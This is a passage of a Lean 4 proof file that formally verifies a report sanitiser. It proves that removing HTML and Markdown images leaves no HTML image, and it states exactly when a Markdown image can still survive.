import AuditSwarm.Model.ReportMarkup

/-!
# Images left in a sanitised report

An HTML image is never left.  A Markdown image is left exactly when a removed image, whose mark is a
text in brackets, serves a `!` of the text as the brackets of a label or of a target.
-/

namespace AuditSwarm

open Python

namespace Exports

/-! ## Pieces of a text -/

/-- A character that is kept, or an image that is removed. -/
inductive Piece where
  | kept (c : CodePoint)
  | image
  deriving DecidableEq

namespace Piece

def text : Piece → Str
  | kept c => [c]
  | image => imageRemoved

/-- It ends a bracket: a closing bracket does, and so does the mark of an image. -/
def closes : Piece → Bool
  | kept c => c = 93
  | image => true

end Piece

open Piece

def render (ps : List Piece) : Str := ps.flatMap text

def afterPiece (stop : Piece → Bool) : List Piece → Option (List Piece)
  | [] => none
  | p :: ps => if stop p then some ps else afterPiece stop ps

def labelAt : List Piece → Option (List Piece)
  | kept 91 :: ps => afterPiece closes ps
  | image :: ps => some ps
  | _ => none

def targetAt : List Piece → Option (List Piece)
  | kept 40 :: ps => afterPiece (· = kept 41) ps
  | kept 91 :: ps => afterPiece closes ps
  | image :: ps => some ps
  | _ => none

def mdPieceAt : List Piece → Option (List Piece)
  | kept 33 :: ps => (labelAt ps).bind targetAt
  | _ => none

def htmlPieceAt (cls : CharClasses) : List Piece → Option (List Piece)
  | kept 60 :: kept i :: kept m :: kept g :: ps =>
      if cls.sameLetter 105 i && cls.sameLetter 109 m && cls.sameLetter 103 g &&
          !((render ps).head?.any cls.word) then
        afterPiece (· = kept 62) ps
      else none
  | _ => none

/-- The characters of a text that are kept and the images that are removed, in order. -/
def pieces (cls : CharClasses) (text : Str) : List Piece :=
  Replace.replaceAll (htmlPieceAt cls) [image]
    (Replace.replaceAll mdPieceAt [image] (text.map kept))

/-! ## Matching text and matching pieces -/

@[simp] theorem render_nil : render [] = [] := rfl

@[simp] theorem render_kept (c : CodePoint) (ps : List Piece) :
    render (kept c :: ps) = c :: render ps := rfl

@[simp] theorem render_image (ps : List Piece) :
    render (image :: ps) = imageRemoved ++ render ps := rfl

theorem render_map_kept (s : Str) : render (s.map kept) = s := by
  induction s with
  | nil => rfl
  | cons c s ih => rw [List.map_cons, render_kept, ih]

theorem afterFirst_append {c : CodePoint} {s : Str} (h : c ∉ s) (t : Str) :
    afterFirst c (s ++ t) = afterFirst c t := by
  induction s with
  | nil => rfl
  | cons d s ih =>
      rw [List.mem_cons, not_or] at h
      rw [List.cons_append, afterFirst, if_neg (Ne.symm h.1), ih h.2]

theorem afterFirst_render {c : CodePoint} (h : c ∉ imageRemoved) (ps : List Piece) :
    afterFirst c (render ps) = (afterPiece (· = kept c) ps).map render := by
  induction ps with
  | nil => rfl
  | cons p ps ih =>
      cases p with
      | image =>
          rw [render_image, afterFirst_append h, ih, afterPiece, if_neg (by simp)]
      | kept d =>
          rw [render_kept, afterFirst, afterPiece]
          by_cases hd : d = c
          · rw [if_pos hd, if_pos (by simp [hd])]
            rfl
          · rw [if_neg hd, if_neg (by simp [hd]), ih]

theorem afterFirst_bracket_render (ps : List Piece) :
    afterFirst 93 (render ps) = (afterPiece closes ps).map render := by
  induction ps with
  | nil => rfl
  | cons p ps ih =>
      cases p with
      | image =>
          have hmark : imageRemoved = imageRemoved.dropLast ++ [93] := by decide
          have hinner : (93 : CodePoint) ∉ imageRemoved.dropLast := by decide
          rw [render_image, hmark, List.append_assoc, afterFirst_append hinner]
          rfl
      | kept d =>
          rw [render_kept, afterFirst, afterPiece]
          by_cases hd : d = 93
          · rw [if_pos hd, if_pos (by simp [closes, hd])]
            rfl
          · rw [if_neg hd, if_neg (by simp [closes, hd]), ih]

theorem afterFirst_imageRemoved (s : Str) :
    afterFirst 93 (imageRemoved.tail ++ s) = some s := by
  have hmark : imageRemoved.tail = imageRemoved.tail.dropLast ++ [93] := by decide
  have hinner : (93 : CodePoint) ∉ imageRemoved.tail.dropLast := by decide
  rw [hmark, List.append_assoc, afterFirst_append hinner]
  rfl

theorem imageRemoved_eq : imageRemoved = 91 :: imageRemoved.tail := by decide

theorem mdTargetAt_render (ps : List Piece) :
    mdTargetAt (render ps) = (targetAt ps).map render := by
  have hparen : (41 : CodePoint) ∉ imageRemoved := by decide
  unfold targetAt
  split
  · rw [render_kept, mdTargetAt, afterFirst_render hparen]
  · rw [render_kept, mdTargetAt, afterFirst_bracket_render]
  · rw [render_image, imageRemoved_eq, List.cons_append, mdTargetAt]
    exact afterFirst_imageRemoved _
  · rename_i hopen hbracket himage
    cases ps with
    | nil => rfl
    | cons p ps =>
        cases p with
        | image => exact absurd rfl (himage ps)
        | kept c =>
            have h40 : c ≠ 40 := fun hc => hopen ps (by rw [hc])
            have h91 : c ≠ 91 := fun hc => hbracket ps (by rw [hc])
            rw [render_kept]
            unfold mdTargetAt
            split
            · rename_i heq
              exact absurd (List.cons.inj heq).1 h40
            · rename_i heq
              exact absurd (List.cons.inj heq).1 h91
            · rfl

theorem mdImageAt_render (ps : List Piece) :
    mdImageAt (render ps) = (mdPieceAt ps).map render := by
  cases ps with
  | nil => rfl
  | cons p ps =>
      cases p with
      | image =>
          rw [render_image, imageRemoved_eq]
          rfl
      | kept c =>
          by_cases hc : c = 33
          · subst hc
            have hlabel : mdImageAt (33 :: render ps) = ((labelAt ps).map render).bind mdTargetAt := by
              unfold labelAt
              split
              · rw [render_kept, mdImageAt, afterFirst_bracket_render]
              · rw [render_image, imageRemoved_eq, List.cons_append, mdImageAt,
                  afterFirst_imageRemoved]
                rfl
              · rename_i hbracket himage
                cases ps with
                | nil => rfl
                | cons q ps =>
                    cases q with
                    | image => exact absurd rfl (himage ps)
                    | kept d =>
                        have h91 : d ≠ 91 := fun hd => hbracket ps (by rw [hd])
                        rw [render_kept]
                        unfold mdImageAt
                        split
                        · rename_i heq
                          exact absurd (List.cons.inj (List.cons.inj heq).2).1 h91
                        · rfl
            rw [render_kept, hlabel, mdPieceAt]
            cases labelAt ps with
            | none => rfl
            | some rest => exact mdTargetAt_render rest
          · rw [render_kept]
            unfold mdImageAt mdPieceAt
            split
            · rename_i heq
              exact absurd (List.cons.inj heq).1 hc
            · split
              · rename_i heq
                exact absurd (kept.inj (List.cons.inj heq).1) hc
              · rfl

/-- `[` and `<` are no word characters, and `[` is none of the letters of `img`. -/
structure BracketsApart (cls : CharClasses) : Prop where
  less : cls.word 60 = false
  notI : cls.sameLetter 105 91 = false
  notM : cls.sameLetter 109 91 = false
  notG : cls.sameLetter 103 91 = false

section
variable {cls : CharClasses}

theorem render_image_cons (ps : List Piece) :
    render (image :: ps) = 91 :: (imageRemoved.tail ++ render ps) := by
  rw [render_image, imageRemoved_eq]
  rfl

/-- A text that starts with the letters of a tag does so in pieces that are kept. -/
theorem htmlImageAt_eq_none {s : Str} (h : ∀ i m g t, s = 60 :: i :: m :: g :: t →
    (cls.sameLetter 105 i && cls.sameLetter 109 m && cls.sameLetter 103 g) = false) :
    htmlImageAt cls s = none := by
  unfold htmlImageAt
  split
  · rename_i i m g t
    rw [h i m g t rfl, Bool.false_and, if_neg Bool.false_ne_true]
  · rfl

theorem htmlPieceAt_eq_none {ps : List Piece}
    (h : ∀ i m g t, ps ≠ kept 60 :: kept i :: kept m :: kept g :: t) :
    htmlPieceAt cls ps = none := by
  unfold htmlPieceAt
  split
  · rename_i i m g t
    exact absurd rfl (h i m g t)
  · rfl

/-- The first character of some pieces is one that is kept or the opening bracket of a mark. -/
theorem head_cases {ps : List Piece} {c : CodePoint} {s : Str} (h : render ps = c :: s) :
    (∃ qs, ps = kept c :: qs ∧ s = render qs) ∨ c = 91 := by
  cases ps with
  | nil => cases h
  | cons p ps =>
      cases p with
      | image =>
          rw [render_image_cons] at h
          exact .inr (List.cons.inj h).1.symm
      | kept d =>
          rw [render_kept] at h
          obtain ⟨rfl, rfl⟩ := List.cons.inj h
          exact .inl ⟨ps, rfl, rfl⟩

theorem htmlImageAt_render (hcls : BracketsApart cls) (ps : List Piece) :
    htmlImageAt cls (render ps) = (htmlPieceAt cls ps).map render := by
  have hclose : (62 : CodePoint) ∉ imageRemoved := by decide
  by_cases hkept : ∃ i m g t, ps = kept 60 :: kept i :: kept m :: kept g :: t
  · obtain ⟨i, m, g, t, rfl⟩ := hkept
    simp only [render_kept, htmlImageAt, htmlPieceAt]
    split
    · exact afterFirst_render hclose t
    · rfl
  · have hpiece : htmlPieceAt cls ps = none :=
      htmlPieceAt_eq_none fun i m g t heq => hkept ⟨i, m, g, t, heq⟩
    rw [hpiece]
    apply htmlImageAt_eq_none
    intro i m g t hrender
    rcases head_cases hrender with ⟨qs, rfl, hqs⟩ | hbracket
    · rcases head_cases hqs.symm with ⟨rs, rfl, hrs⟩ | rfl
      · rcases head_cases hrs.symm with ⟨us, rfl, hus⟩ | rfl
        · rcases head_cases hus.symm with ⟨vs, rfl, -⟩ | rfl
          · exact absurd ⟨i, m, g, vs, rfl⟩ hkept
          · rw [hcls.notG, Bool.and_false]
        · rw [hcls.notM, Bool.and_false, Bool.false_and]
      · rw [hcls.notI, Bool.false_and, Bool.false_and]
    · exact absurd hbracket (by decide)

/-! ## Replacing in text and in pieces -/

theorem afterFirst_suffix {c : CodePoint} {s rest : Str} (h : afterFirst c s = some rest) :
    rest <:+ s := by
  induction s with
  | nil => cases h
  | cons d s ih =>
      rw [afterFirst] at h
      split at h
      · cases h
        exact List.suffix_cons _ _
      · exact (ih h).trans (List.suffix_cons d s)

theorem afterPiece_suffix {stop : Piece → Bool} {ps rest : List Piece}
    (h : afterPiece stop ps = some rest) : rest <:+ ps := by
  induction ps with
  | nil => cases h
  | cons p ps ih =>
      rw [afterPiece] at h
      split at h
      · cases h
        exact List.suffix_cons _ _
      · exact (ih h).trans (List.suffix_cons p ps)

theorem mdTargetAt_suffix {s rest : Str} (h : mdTargetAt s = some rest) : rest <:+ s := by
  unfold mdTargetAt at h
  split at h
  · exact (afterFirst_suffix h).trans (List.suffix_cons _ _)
  · exact (afterFirst_suffix h).trans (List.suffix_cons _ _)
  · cases h

theorem shrinks_mdImageAt : Replace.Shrinks mdImageAt := by
  intro x s rest h
  unfold mdImageAt at h
  split at h
  · rename_i t heq
    obtain ⟨-, rfl⟩ := List.cons.inj heq
    obtain ⟨u, hu, htarget⟩ := Option.bind_eq_some_iff.mp h
    exact ((mdTargetAt_suffix htarget).trans (afterFirst_suffix hu)).trans (List.suffix_cons _ _)
  · cases h

theorem shrinks_htmlImageAt : Replace.Shrinks (htmlImageAt cls) := by
  intro x s rest h
  unfold htmlImageAt at h
  split at h
  · rename_i i m g t heq
    obtain ⟨-, rfl⟩ := List.cons.inj heq
    split at h
    · exact (afterFirst_suffix h).trans ⟨[i, m, g], rfl⟩
    · cases h
  · cases h

theorem labelAt_suffix {ps rest : List Piece} (h : labelAt ps = some rest) : rest <:+ ps := by
  unfold labelAt at h
  split at h
  · exact (afterPiece_suffix h).trans (List.suffix_cons _ _)
  · cases h
    exact List.suffix_cons _ _
  · cases h

theorem targetAt_suffix {ps rest : List Piece} (h : targetAt ps = some rest) : rest <:+ ps := by
  unfold targetAt at h
  split at h
  · exact (afterPiece_suffix h).trans (List.suffix_cons _ _)
  · exact (afterPiece_suffix h).trans (List.suffix_cons _ _)
  · cases h
    exact List.suffix_cons _ _
  · cases h

theorem shrinks_mdPieceAt : Replace.Shrinks mdPieceAt := by
  intro p ps rest h
  unfold mdPieceAt at h
  split at h
  · rename_i t heq
    obtain ⟨-, rfl⟩ := List.cons.inj heq
    obtain ⟨u, hu, htarget⟩ := Option.bind_eq_some_iff.mp h
    exact (targetAt_suffix htarget).trans (labelAt_suffix hu)
  · cases h

theorem shrinks_htmlPieceAt : Replace.Shrinks (htmlPieceAt cls) := by
  intro p ps rest h
  unfold htmlPieceAt at h
  split at h
  · rename_i i m g t heq
    obtain ⟨-, rfl⟩ := List.cons.inj heq
    split at h
    · exact (afterPiece_suffix h).trans ⟨[kept i, kept m, kept g], rfl⟩
    · cases h
  · cases h

theorem replaceAll_append {matchAt : Str → Option Str} {t : Str}
    (h : ∀ c ∈ t, ∀ s, matchAt (c :: s) = none) (repl s : Str) :
    Replace.replaceAll matchAt repl (t ++ s) = t ++ Replace.replaceAll matchAt repl s := by
  induction t with
  | nil => rfl
  | cons c t ih =>
      rw [List.cons_append, Replace.replaceAll_of_none (h c List.mem_cons_self _),
        ih fun d hd => h d (List.mem_cons_of_mem c hd), List.cons_append]

/-- Replacing in the text is replacing in the pieces, when the pattern sees the same in both and
does not start within a mark. -/
theorem replaceAll_render {matchAt : Str → Option Str}
    {pieceAt : List Piece → Option (List Piece)} (hmatch : Replace.Shrinks matchAt)
    (hpiece : Replace.Shrinks pieceAt)
    (hsame : ∀ ps, matchAt (render ps) = (pieceAt ps).map render)
    (hmark : ∀ c ∈ imageRemoved, ∀ s, matchAt (c :: s) = none) (ps : List Piece) :
    Replace.replaceAll matchAt imageRemoved (render ps) =
      render (Replace.replaceAll pieceAt [image] ps) := by
  induction hn : ps.length using Nat.strong_induction_on generalizing ps with
  | _ n ih =>
    subst hn
    cases ps with
    | nil => rfl
    | cons p ps =>
        have hlt : ps.length < (p :: ps).length := by
          rw [List.length_cons]
          omega
        have hheads := hsame (p :: ps)
        cases p with
        | image =>
            have hnone : pieceAt (image :: ps) = none := by
              rw [render_image_cons, hmark 91 (by decide)] at hheads
              exact Option.map_eq_none_iff.mp hheads.symm
            rw [Replace.replaceAll_of_none hnone, render_image, replaceAll_append hmark,
              ih _ hlt ps rfl, render_image]
        | kept c =>
            cases hat : pieceAt (kept c :: ps) with
            | none =>
                rw [hat, Option.map_none] at hheads
                rw [Replace.replaceAll_of_none hat, render_kept, render_kept] at *
                rw [Replace.replaceAll_of_none hheads, ih _ hlt ps rfl]
            | some rest =>
                have hrest : rest.length < (kept c :: ps).length := by
                  have hle := (hpiece _ _ _ hat).length_le
                  rw [List.length_cons]
                  omega
                rw [hat, Option.map_some, render_kept] at hheads
                rw [Replace.replaceAll_of_some hpiece hat, render_kept,
                  Replace.replaceAll_of_some hmatch hheads, ih _ hrest rest rfl,
                  List.singleton_append, render_image]

theorem sanitizeReport_eq (hcls : BracketsApart cls) (text : Str) :
    sanitizeReport cls text = render (pieces cls text) := by
  have hmd : ∀ c ∈ imageRemoved, ∀ s, mdImageAt (c :: s) = none := by
    intro c hc s
    have hne : c ≠ 33 := by
      intro heq
      rw [heq] at hc
      exact absurd hc (by decide)
    unfold mdImageAt
    split
    · rename_i heq
      exact absurd (List.cons.inj heq).1 hne
    · rfl
  have hhtml : ∀ c ∈ imageRemoved, ∀ s, htmlImageAt cls (c :: s) = none := by
    intro c hc s
    apply htmlImageAt_eq_none
    intro i m g t heq
    rw [(List.cons.inj heq).1] at hc
    exact absurd hc (by decide)
  rw [sanitizeReport, pieces,
    ← replaceAll_render shrinks_htmlImageAt shrinks_htmlPieceAt (htmlImageAt_render hcls) hhtml,
    ← replaceAll_render shrinks_mdImageAt shrinks_mdPieceAt mdImageAt_render hmd,
    render_map_kept]

/-! ## No HTML image is left -/

/-- An end of the text that starts with a character of no mark is that of an end of the pieces. -/
theorem exists_of_suffix_render {c : CodePoint} {s : Str} {ps : List Piece}
    (hc : c ∉ imageRemoved) (h : c :: s <:+ render ps) :
    ∃ qs, kept c :: qs <:+ ps ∧ s = render qs := by
  induction ps with
  | nil => cases List.suffix_nil.mp h
  | cons p ps ih =>
      cases p with
      | kept d =>
          rw [render_kept] at h
          rcases List.suffix_cons_iff.mp h with heq | h
          · obtain ⟨rfl, rfl⟩ := List.cons.inj heq
            exact ⟨ps, List.suffix_refl _, rfl⟩
          · obtain ⟨qs, hqs, hs⟩ := ih h
            exact ⟨qs, hqs.trans (List.suffix_cons _ ps), hs⟩
      | image =>
          rw [render_image] at h
          have hrest : c :: s <:+ render ps := by
            obtain ⟨t, ht⟩ := h
            rcases List.append_eq_append_iff.mp ht with ⟨u, hmark, hcs⟩ | ⟨u, -, hrest⟩
            · cases u with
              | nil => exact ⟨[], hcs⟩
              | cons d u =>
                  have hd := (List.cons.inj hcs).1
                  rw [hmark, hd] at hc
                  exact absurd (List.mem_append_right t List.mem_cons_self) hc
            · exact ⟨u, hrest.symm⟩
          obtain ⟨qs, hqs, hs⟩ := ih hrest
          exact ⟨qs, hqs.trans (List.suffix_cons _ ps), hs⟩

theorem isSome_afterPiece_iff {stop : Piece → Bool} {ps : List Piece} :
    (afterPiece stop ps).isSome = true ↔ ∃ p ∈ ps, stop p = true := by
  induction ps with
  | nil => simp [afterPiece]
  | cons p ps ih =>
      rw [afterPiece]
      by_cases hp : stop p = true
      · simp [hp]
      · simp [hp, ih]

/-- No HTML image starts in what is left once they are removed. -/
theorem htmlPieceAt_replaceAll (hcls : BracketsApart cls) (ps : List Piece) :
    htmlPieceAt cls (Replace.replaceAll (htmlPieceAt cls) [image] ps) = none := by
  by_contra hsome
  have hkept : ∃ i m g t, Replace.replaceAll (htmlPieceAt cls) [image] ps =
      kept 60 :: kept i :: kept m :: kept g :: t := by
    by_contra hnot
    exact hsome (htmlPieceAt_eq_none fun i m g t heq => hnot ⟨i, m, g, t, heq⟩)
  obtain ⟨i, m, g, t, heq⟩ := hkept
  obtain ⟨us, rfl, ht, hnone⟩ := Replace.eq_append_of_replaceAll shrinks_htmlPieceAt
    (show _ = [kept 60, kept i, kept m, kept g] ++ t from heq) (by simp)
  have hnone := hnone (by simp)
  rw [heq, htmlPieceAt] at hsome
  simp only [List.cons_append, List.nil_append] at hnone
  rw [htmlPieceAt] at hnone
  split at hsome
  · rename_i hletters
    obtain ⟨p, hp, hclose⟩ :=
      isSome_afterPiece_iff.mp (Option.isSome_iff_ne_none.mpr hsome)
    have hpkept : p = kept 62 := of_decide_eq_true hclose
    rw [Bool.and_eq_true, Bool.not_eq_true'] at hletters
    have hboundary : (render us).head?.any cls.word = false := by
      cases us with
      | nil => rfl
      | cons q us =>
          cases hq : htmlPieceAt cls (q :: us) with
          | none =>
              have hword := hletters.2
              rw [ht, Replace.replaceAll_of_none hq] at hword
              cases q with
              | image => exact hword
              | kept d => exact hword
          | some rest =>
              have hfirst : q = kept 60 := by
                unfold htmlPieceAt at hq
                split at hq
                · rename_i hqs
                  exact (List.cons.inj hqs).1
                · cases hq
              rw [hfirst, render_kept, List.head?_cons, Option.any_some, hcls.less]
    rw [if_pos (by rw [hletters.1, hboundary]; rfl)] at hnone
    have hmem : p ∈ us := by
      rw [ht] at hp
      exact Replace.mem_of_mem_replaceAll shrinks_htmlPieceAt hp (by rw [hpkept]; simp)
    have hsome' : (afterPiece (· = kept 62) us).isSome = true :=
      isSome_afterPiece_iff.mpr ⟨p, hmem, hclose⟩
    rw [hnone] at hsome'
    cases hsome'
  · exact hsome rfl

/-- No image of either kind is left in the text. -/
def NoImage (cls : CharClasses) (text : Str) : Prop :=
  ∀ s, s <:+ text → mdImageAt s = none ∧ htmlImageAt cls s = none

theorem htmlImageAt_sanitizeReport (hcls : BracketsApart cls) (text : Str) {s : Str}
    (hs : s <:+ sanitizeReport cls text) : htmlImageAt cls s = none := by
  by_contra hsome
  have hstart : ∃ t, s = 60 :: t := by
    by_contra hnot
    apply hsome
    apply htmlImageAt_eq_none
    intro i m g t heq
    exact absurd ⟨_, heq⟩ hnot
  obtain ⟨t, rfl⟩ := hstart
  rw [sanitizeReport_eq hcls] at hs
  obtain ⟨qs, hqs, rfl⟩ := exists_of_suffix_render (by decide) hs
  obtain ⟨us, -, hus⟩ := Replace.exists_of_suffix_replaceAll shrinks_htmlPieceAt hqs
  rw [← render_kept, htmlImageAt_render hcls, hus, htmlPieceAt_replaceAll hcls] at hsome
  exact hsome rfl

/-! ## Removed images as brackets -/

/-- Something a Markdown image can have as its target: a removed image, a parenthesis that is
closed further on, or a bracket that a bracket or a removed image closes. -/
def Target (ps : List Piece) : Prop :=
  (∃ rest, ps = image :: rest) ∨ (∃ rest, ps = kept 40 :: rest ∧ kept 41 ∈ rest) ∨
    ∃ rest, ps = kept 91 :: rest ∧ ∃ p ∈ rest, p.closes = true

/-- After a `!` that is kept, a removed image is the label, or closes it, or is the target, or
closes it. -/
inductive UsesImage : List Piece → Prop
  | label {rest : List Piece} (h : Target rest) : UsesImage (image :: rest)
  | closesLabel {rest : List Piece} (x : Str) (hx : 93 ∉ x) (h : Target rest) :
      UsesImage (kept 91 :: (x.map kept ++ image :: rest))
  | target {rest : List Piece} (x : Str) (hx : 93 ∉ x) :
      UsesImage (kept 91 :: (x.map kept ++ kept 93 :: image :: rest))
  | closesTarget {rest : List Piece} (x y : Str) (hx : 93 ∉ x) (hy : 93 ∉ y) :
      UsesImage (kept 91 :: (x.map kept ++ kept 93 :: kept 91 :: (y.map kept ++ image :: rest)))

/-- A removed image serves a `!` of the text as brackets. -/
def Exposed (ps : List Piece) : Prop := ∃ after, kept 33 :: after <:+ ps ∧ UsesImage after

theorem isSome_targetAt_iff {ps : List Piece} : (targetAt ps).isSome = true ↔ Target ps := by
  unfold targetAt Target
  split
  · rw [isSome_afterPiece_iff]
    simp
  · rw [isSome_afterPiece_iff]
    simp
  · simp
  · rename_i hopen hbracket himage
    refine iff_of_false (by simp) ?_
    intro h
    rcases h with ⟨rest, rfl⟩ | ⟨rest, rfl, -⟩ | ⟨rest, rfl, -⟩
    · exact himage rest rfl
    · exact hopen rest rfl
    · exact hbracket rest rfl

theorem afterPiece_map_kept {x : Str} (hx : 93 ∉ x) (ps : List Piece) :
    afterPiece closes (x.map kept ++ ps) = afterPiece closes ps := by
  induction x with
  | nil => rfl
  | cons c x ih =>
      rw [List.mem_cons, not_or] at hx
      have hc : ¬ (kept c).closes = true := by simpa [closes] using Ne.symm hx.1
      rw [List.map_cons, List.cons_append, afterPiece, if_neg hc, ih hx.2]

/-- What closes a bracket is a bracket or a removed image, after characters that are kept. -/
theorem afterPiece_closes {ps rest : List Piece} (h : afterPiece closes ps = some rest) :
    ∃ x : Str, 93 ∉ x ∧
      (ps = x.map kept ++ kept 93 :: rest ∨ ps = x.map kept ++ image :: rest) := by
  induction ps with
  | nil => cases h
  | cons p ps ih =>
      rw [afterPiece] at h
      by_cases hp : p.closes = true
      · rw [if_pos hp] at h
        obtain rfl := Option.some.inj h
        refine ⟨[], List.not_mem_nil, ?_⟩
        cases p with
        | image => exact .inr rfl
        | kept c =>
            have hc : c = 93 := by simpa [closes] using hp
            exact .inl (by rw [hc]; rfl)
      · rw [if_neg hp] at h
        obtain ⟨x, hx, hps⟩ := ih h
        cases p with
        | image => exact absurd rfl hp
        | kept c =>
            have hc : (93 : CodePoint) ∉ c :: x := by
              rw [List.mem_cons, not_or]
              exact ⟨fun heq => hp (by simp [closes, heq]), hx⟩
            rcases hps with rfl | rfl
            · exact ⟨c :: x, hc, .inl rfl⟩
            · exact ⟨c :: x, hc, .inr rfl⟩

/-- A `!` with a removed image as brackets makes a match. -/
theorem isSome_mdPieceAt {after : List Piece} (h : UsesImage after) :
    (mdPieceAt (kept 33 :: after)).isSome = true := by
  rw [mdPieceAt]
  cases h with
  | label htarget =>
      rw [labelAt, Option.bind_some]
      exact isSome_targetAt_iff.mpr htarget
  | closesLabel x hx htarget =>
      rw [labelAt, afterPiece_map_kept hx, afterPiece, if_pos (by decide), Option.bind_some]
      exact isSome_targetAt_iff.mpr htarget
  | target x hx =>
      rw [labelAt, afterPiece_map_kept hx, afterPiece, if_pos (by decide), Option.bind_some]
      exact isSome_targetAt_iff.mpr (.inl ⟨_, rfl⟩)
  | closesTarget x y hx hy =>
      rw [labelAt, afterPiece_map_kept hx, afterPiece, if_pos (by decide), Option.bind_some]
      refine isSome_targetAt_iff.mpr (.inr (.inr ⟨_, rfl, image, ?_, rfl⟩))
      exact List.mem_append_right _ List.mem_cons_self

/-- Pieces that are kept stand as they are in the text that was given. -/
theorem eq_append_of_pieces {text x : Str} {ps rest : List Piece} (hps : ps <:+ pieces cls text)
    (h : ps = x.map kept ++ rest) (hne : x ≠ []) :
    ∃ s, mdPieceAt (s.map kept) = none ∧ (∃ t, s = x ++ t ∧
      ∀ c, kept c ∈ rest → c ∈ t) := by
  have hmark : image ∉ x.map kept := by simp
  obtain ⟨us, hus, heq⟩ := Replace.exists_of_suffix_replaceAll shrinks_htmlPieceAt hps
  obtain ⟨us', rfl, hrest, -⟩ :=
    Replace.eq_append_of_replaceAll shrinks_htmlPieceAt (heq.symm.trans h) hmark
  obtain ⟨vs, hvs, heq'⟩ := Replace.exists_of_suffix_replaceAll shrinks_mdPieceAt hus
  obtain ⟨vs', rfl, hrest', hnone⟩ :=
    Replace.eq_append_of_replaceAll shrinks_mdPieceAt heq'.symm hmark
  obtain ⟨s, hs⟩ : ∃ s : Str, s.map kept = x.map kept ++ vs' := by
    obtain ⟨n, hn⟩ : ∃ n, x.map kept ++ vs' = (text.map kept).drop n :=
      ⟨_, (List.suffix_iff_eq_drop.mp hvs)⟩
    exact ⟨text.drop n, by rw [hn, List.map_drop]⟩
  refine ⟨s, by rw [hs]; exact hnone (by simpa using hne), ?_⟩
  obtain ⟨a, t, rfl, ha, ht⟩ := List.map_eq_append_iff.mp hs
  have hax : a = x := List.map_injective_iff.mpr (fun _ _ => kept.inj) ha
  refine ⟨t, by rw [hax], ?_⟩
  intro c hc
  rw [hrest] at hc
  have hc' := Replace.mem_of_mem_replaceAll shrinks_htmlPieceAt hc (by simp)
  rw [hrest'] at hc'
  have hc'' := Replace.mem_of_mem_replaceAll shrinks_mdPieceAt hc' (by simp)
  rw [← ht] at hc''
  obtain ⟨d, hd, hkept⟩ := List.mem_map.mp hc''
  rwa [← kept.inj hkept]

/-- Kept characters with a label do not match unless their target has no end. -/
theorem mdPieceAt_label {x : Str} (hx : 93 ∉ x) (ps : List Piece) :
    mdPieceAt (kept 33 :: kept 91 :: (x.map kept ++ kept 93 :: ps)) = targetAt ps := by
  rw [mdPieceAt, labelAt, afterPiece_map_kept hx, afterPiece, if_pos (by decide),
    Option.bind_some]

/-- The label and the target of a match that are all kept characters would have matched in the
text. -/
theorem not_kept_target {text x y : Str} {c d : CodePoint} {rest : List Piece} (hx : 93 ∉ x)
    (hcd : ∀ t : Str, d ∈ t → (targetAt ((c :: t).map kept)).isSome = true)
    (hafter : kept 33 :: kept 91 :: (x.map kept ++ kept 93 :: kept c ::
      (y.map kept ++ rest)) <:+ pieces cls text) (hd : kept d ∈ y.map kept ++ rest) : False := by
  have hsplit : kept 33 :: kept 91 :: (x.map kept ++ kept 93 :: kept c :: (y.map kept ++ rest)) =
      (33 :: 91 :: (x ++ [93, c])).map kept ++ (y.map kept ++ rest) := by simp
  obtain ⟨s, hnone, t, rfl, ht⟩ := eq_append_of_pieces hafter hsplit (List.cons_ne_nil _ _)
  have hsome := hcd t (ht d hd)
  have hmap : (33 :: 91 :: (x ++ [93, c]) ++ t).map kept =
      kept 33 :: kept 91 :: (x.map kept ++ kept 93 :: (c :: t).map kept) := by simp
  rw [hmap, mdPieceAt_label hx] at hnone
  rw [hnone] at hsome
  cases hsome

/-- Where pieces match, a removed image serves as brackets: otherwise the text itself would have
matched there. -/
theorem usesImage_of_match {text : Str} {after : List Piece}
    (hafter : kept 33 :: after <:+ pieces cls text)
    (h : (mdPieceAt (kept 33 :: after)).isSome = true) : UsesImage after := by
  rw [mdPieceAt] at h
  obtain ⟨v, hv⟩ := Option.isSome_iff_exists.mp h
  obtain ⟨u, hu, hv⟩ := Option.bind_eq_some_iff.mp hv
  have htarget : Target u := isSome_targetAt_iff.mp (by rw [hv]; rfl)
  unfold labelAt at hu
  split at hu
  · rename_i ps
    obtain ⟨x, hx, rfl | rfl⟩ := afterPiece_closes hu
    · rcases htarget with ⟨rest, rfl⟩ | ⟨rest, rfl, hclose⟩ | ⟨rest, rfl, p, hp, hcloses⟩
      · exact .target x hx
      · refine absurd (not_kept_target (y := []) (d := 41) hx ?_ hafter hclose) id
        intro t ht
        rw [List.map_cons, targetAt, isSome_afterPiece_iff]
        exact ⟨kept 41, List.mem_map_of_mem ht, by simp⟩
      · obtain ⟨w, hw⟩ := Option.isSome_iff_exists.mp
          (isSome_afterPiece_iff.mpr ⟨p, hp, hcloses⟩)
        obtain ⟨y, hy, rfl | rfl⟩ := afterPiece_closes hw
        · refine absurd (not_kept_target (d := 93) hx ?_ hafter (by simp)) id
          intro t ht
          rw [List.map_cons, targetAt, isSome_afterPiece_iff]
          exact ⟨kept 93, List.mem_map_of_mem ht, by simp [closes]⟩
        · exact .closesTarget x y hx hy
    · exact .closesLabel x hx htarget
  · cases hu
    exact .label htarget
  · cases hu

/-! ## The sanitised text -/

/-- A Markdown image is left exactly when a removed image serves as brackets. -/
theorem noImage_sanitizeReport_iff (hcls : BracketsApart cls) (text : Str) :
    NoImage cls (sanitizeReport cls text) ↔ ¬ Exposed (pieces cls text) := by
  constructor
  · intro hnone hexposed
    obtain ⟨after, hafter, huses⟩ := hexposed
    have hsuffix : render (kept 33 :: after) <:+ sanitizeReport cls text := by
      obtain ⟨before, hbefore⟩ := hafter
      refine ⟨render before, ?_⟩
      rw [sanitizeReport_eq hcls, ← hbefore, render, render, render, List.flatMap_append]
    have hmatch := isSome_mdPieceAt huses
    have hmd := (hnone _ hsuffix).1
    rw [mdImageAt_render, Option.map_eq_none_iff] at hmd
    rw [hmd] at hmatch
    cases hmatch
  · intro hexposed s hs
    refine ⟨?_, htmlImageAt_sanitizeReport hcls text hs⟩
    by_contra hsome
    have hstart : ∃ t, s = 33 :: t := by
      by_contra hnot
      apply hsome
      unfold mdImageAt
      split
      · exact absurd ⟨_, rfl⟩ hnot
      · rfl
    obtain ⟨t, rfl⟩ := hstart
    rw [sanitizeReport_eq hcls] at hs
    obtain ⟨after, hafter, rfl⟩ := exists_of_suffix_render (by decide) hs
    rw [← render_kept, mdImageAt_render] at hsome
    have hmatch : (mdPieceAt (kept 33 :: after)).isSome = true := by
